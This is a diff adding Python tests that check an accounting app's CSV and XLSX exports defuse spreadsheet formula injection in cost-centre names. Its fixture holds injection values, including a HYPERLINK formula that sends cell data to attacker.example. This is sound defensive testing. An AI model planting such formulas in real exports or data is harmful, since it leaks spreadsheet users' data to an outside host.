@@ -215,3 +215,52 @@ def test_the_variance_report_exports_its_alerts(book, reader):
     rows = list(csv.DictReader(io.StringIO(response.content.decode())))
     buckets = [row["bucket"] for row in rows if row["table"] == "unreconciled.buckets"]
     assert buckets == ["0-30", "31-60", "61-90", "90+"]
+
+
+FORMULA_NAMES = {
+    "cc-a": '=HYPERLINK("http://attacker.example/?d="&A1,"Sales")',
+    "cc-b": "+SUM(1,2)",
+    "cc-solo": "@cmd",
+}
+
+
+def _formula_names():
+    from dimensions.models import CostCenter
+
+    for key, name in FORMULA_NAMES.items():
+        CostCenter.objects.filter(pk=key).update(name=name)
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(book, reader):
+    _formula_names()
+
+    response = reader.get(BASE + GUIDE_URLS["dimensional-analysis"] + "&format=csv")
+
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    names = {row["key"]: row["name"] for row in rows if row["table"] == "by_dimension.cost_center"}
+    expected = {key: "'" + name for key, name in FORMULA_NAMES.items()}
+    assert {key: names[key] for key in FORMULA_NAMES} == expected
+    assert names["cc-root"] == "Head office"
+    # Amounts are numbers, not text: a negative one keeps its minus sign, unprefixed.
+    combinations = [row for row in rows if row["table"] == "combinations"]
+    body = reader.get(BASE + GUIDE_URLS["dimensional-analysis"]).json()
+    nets = [Decimal(row["net"]) for row in combinations]
+    assert nets == [Decimal(row["net"]) for row in body["combinations"]]
+    assert any(row["net"].startswith("-") for row in combinations)
+
+
+def test_the_xlsx_export_keeps_a_formula_like_name_as_text(book, reader):
+    _formula_names()
+
+    response = reader.get(BASE + GUIDE_URLS["dimensional-analysis"] + "&format=xlsx")
+
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content))["dim.cost_center"]
+    rows = list(sheet.iter_rows())
+    header = [cell.value for cell in rows[0]]
+    key, name = header.index("key"), header.index("name")
+    cells = {row[key].value: row[name] for row in rows[1:]}
+    for cost_center, typed in FORMULA_NAMES.items():
+        assert cells[cost_center].data_type == "s"
+        assert cells[cost_center].value == typed
